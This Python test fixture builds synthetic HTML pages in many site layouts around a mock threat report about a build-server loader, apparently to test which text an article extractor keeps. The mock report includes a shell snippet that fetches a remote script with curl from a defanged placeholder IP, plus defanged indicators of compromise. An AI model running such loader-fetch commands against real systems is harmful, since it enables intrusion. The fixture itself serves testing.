"""Makes pages as sites of many kinds write them, and says what of each is the article's and what is not."""

import html
from dataclasses import dataclass, field
from pathlib import Path

PROSE = (
    "Our team looked at a campaign that breaks into build servers and leaves a loader behind, and this is"
    " what it does.",
    "The loader starts a shell, asks a server for orders every ten minutes, and hides its files in a temporary folder.",
    "Two customers told us about it in the same week, and both had left the administration port open to the network.",
    "What follows is a description of each stage, with the commands as they were recorded on the machine"
    " that we watched.",
)
HASHES = tuple(f"{number:02x}" * 32 for number in (161, 178, 195, 212))
CODE = "#!/bin/sh\nif [ -x /usr/bin/curl ]; then\n    curl -fsSL hxxp://203.0.113[.]7/a.sh\nfi\n# done <here> & there"
RELATED = "".join(f'<li><a href="/p/{n}">Another story about something else, number {n}</a></li>' for n in range(6))


@dataclass(frozen=True)
class MadePage:
    """One page, and needles: what must be found, by kind, and what must not."""

    name: str
    text: str
    rows: tuple[tuple[str, ...], ...] = tuple(("SHA-256", one, "loader") for one in HASHES)
    columns: tuple[str, ...] = ("Type", "Value", "Note")
    code: tuple[str, ...] = (CODE,)
    headings: tuple[str, ...] = ("First stage", "Indicators of compromise")
    items: tuple[str, ...] = ("bad-updates[.]example on port 8443", "198.51.100[.]23")
    quotes: tuple[str, ...] = ("We never saw a slower intruder, said the operator of the site.",)
    prose: tuple[str, ...] = PROSE
    absent: tuple[str, ...] = field(default=("Another story about", "All rights reserved", "I liked this post"))


def _table(head: str = "th", section: bool = True) -> str:
    titles = "".join(f"<{head}>{name}</{head}>" for name in ("Type", "Value", "Note"))
    rows = "".join(f"<tr><td>SHA-256</td><td>{one}</td><td>loader</td></tr>" for one in HASHES)
    return (
        f"<table><thead><tr>{titles}</tr></thead><tbody>{rows}</tbody></table>"
        if section
        else (f"<table><tr>{titles}</tr>{rows}</table>")
    )


_P = "".join(f"<p>{one}</p>" for one in PROSE)
_ITEMS = "<ul><li>bad-updates[.]example on port 8443</li><li>198.51.100[.]23</li></ul>"
_QUOTE = "<blockquote><p>We never saw a slower intruder, said the operator of the site.</p></blockquote>"
_PRE = f"<pre><code>{html.escape(CODE)}</code></pre>"
_BODY = f"{_P}<h2>First stage</h2>{_PRE}{_QUOTE}<h2>Indicators of compromise</h2>{_ITEMS}"
_FOOT = "<footer><p>© 2024 Example Corp. All rights reserved.</p></footer>"
_COMMENTS = (
    '<div id="comments" class="comments-area"><h3>Comments</h3><p>I liked this post a lot, thanks for it!</p></div>'
)
_NAV = '<nav><ul><li><a href="/">Home</a></li><li><a href="/blog">Blog</a></li></ul></nav>'
_HEAD = '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>A slow loader | Example</title></head>'


def _highlighted() -> str:
    """Code with numbers of lines in a table, as Jekyll and Hugo write it."""
    lines = CODE.split("\n")
    numbers = "\n".join(str(n) for n in range(1, len(lines) + 1))
    return (
        '<div class="highlight"><table class="rouge-table"><tbody><tr>'
        f'<td class="rouge-gutter gl"><pre class="lineno">{numbers}</pre></td>'
        f'<td class="rouge-code"><pre>{html.escape(CODE)}</pre></td></tr></tbody></table></div>'
    )


def _line_elements() -> str:
    """Code whose lines are elements, as GitHub and several editors write it."""
    rows = "".join(
        f'<tr><td class="blob-num" data-line-number="{n}">{n}</td><td class="blob-code">'
        f"<pre>{html.escape(line)}</pre></td></tr>"
        for n, line in enumerate(CODE.split("\n"), 1)
    )
    return f"<table class='js-file-line-container'>{rows}</table>"


PAGES = (
    MadePage(
        "wordpress",
        f'{_HEAD}<body class="single"><header id="masthead">{_NAV}</header><div id="content"><main>'
        '<article class="post">'
        f'<header><h1 class="entry-title">A slow loader</h1></header><div class="entry-content">{_BODY}{_table()}'
        f'<div class="sharedaddy social"><a href="#">Share on X</a></div></div></article>{_COMMENTS}'
        f'<aside class="related-posts"><h3>Related</h3><ul>{RELATED}</ul></aside></main></div>{_FOOT}</body></html>',
    ),
    MadePage(
        "div-soup",
        f'{_HEAD}<body><div class="top"><a href="/">Home</a> <a href="/a">About</a></div><div'
        ' class="wrap"><div class="c1">'
        f'<h1>A slow loader</h1>{_BODY}{_table(section=False)}</div><div class="sidebar"><ul>{RELATED}</ul></div></div>'
        f'{_COMMENTS}<div class="footer">© 2024 All rights reserved.</div></body></html>',
        absent=("Another story about", "I liked this post"),
    ),
    MadePage(
        "appendix-elsewhere",
        f'{_HEAD}<body>{_NAV}<main><article><section class="story"><h1>A slow loader</h1>{_BODY}</section></article>'
        f'<section class="appendix"><h2>Appendix</h2>{_table()}</section></main>{_FOOT}</body></html>',
    ),
    MadePage(
        "bare",
        f"<h1>A slow loader</h1>{_BODY}"
        + _table("b", section=False).replace("<b>", "<td><b>").replace("</b>", "</b></td>"),
    ),
    MadePage(
        "layout-tables",
        f'{_HEAD}<body><table width="100%"><tr><td colspan="2">{_NAV}</td></tr><tr><td class="menu">'
        f"<ul>{RELATED}</ul></td>"
        f"<td><h1>A slow loader</h1>{_BODY}{_table(section=False)}</td></tr></table></body></html>",
        absent=("I liked this post",),
    ),
    MadePage(
        "numbered-code",
        f'{_HEAD}<body>{_NAV}<article><h1>A slow loader</h1>{_P}<h2 id="x">First stage <a class="anchor"'
        ' href="#x">#</a></h2>'
        f"{_highlighted()}{_QUOTE}<h2>Indicators of compromise</h2>{_ITEMS}{_table()}</article>{_FOOT}</body></html>",
    ),
    MadePage(
        "code-by-lines",
        f'{_HEAD}<body>{_NAV}<div role="main"><h1>A slow loader</h1>{_P}<h2>First stage</h2>{_line_elements()}'
        f"{_QUOTE}<h2>Indicators of compromise</h2>{_ITEMS}{_table()}</div>{_FOOT}</body></html>",
    ),
    MadePage(
        "collapsed-tables",
        f'{_HEAD}<body>{_NAV}<div class="blog-post"><h1>A slow loader</h1>{_BODY}<details><summary>Full list</summary>'
        f'<div class="table-responsive">{_table()}</div></details></div><div class="newsletter">Subscribe!'
        f" {_COMMENTS}</div>"
        f"{_FOOT}</body></html>",
    ),
    MadePage(
        "mostly-table",
        f"{_HEAD}<body>{_NAV}<main><h1>A slow loader</h1><p>{PROSE[0]}</p><h2>Indicators of compromise"
        f"</h2>{_table()}</main>"
        f"{_FOOT}</body></html>",
        headings=("Indicators of compromise",),
        code=(),
        items=(),
        quotes=(),
        prose=PROSE[:1],
    ),
    MadePage(
        "hidden-text",
        f"{_HEAD.replace('</head>', '<style>.trap, #trap2 { display: none } .a{}</style></head>')}<body>{_NAV}<article>"
        f'<h1>A slow loader</h1><!-- comment hidden-0.example -->{_BODY}<p style="display:none">hidden-1.example</p>'
        '<p class="trap">hidden-2.example</p><p hidden>hidden-3.example</p><span'
        ' aria-hidden="true">hidden-4.example</span>'
        '<div id="trap2"><p>hidden-5.example</p></div><noscript>hidden-6.example</noscript><template>hidden-7.example'
        f'</template><script>"hidden-8.example"</script>{_table()}</article>{_FOOT}</body></html>',
        absent=("hidden-", "All rights reserved"),
    ),
)


def written(folder: Path, page: MadePage) -> str:
    """The path of a page's file."""
    path = folder / f"{page.name}.html"
    path.write_text(page.text, encoding="utf-8")
    return str(path)
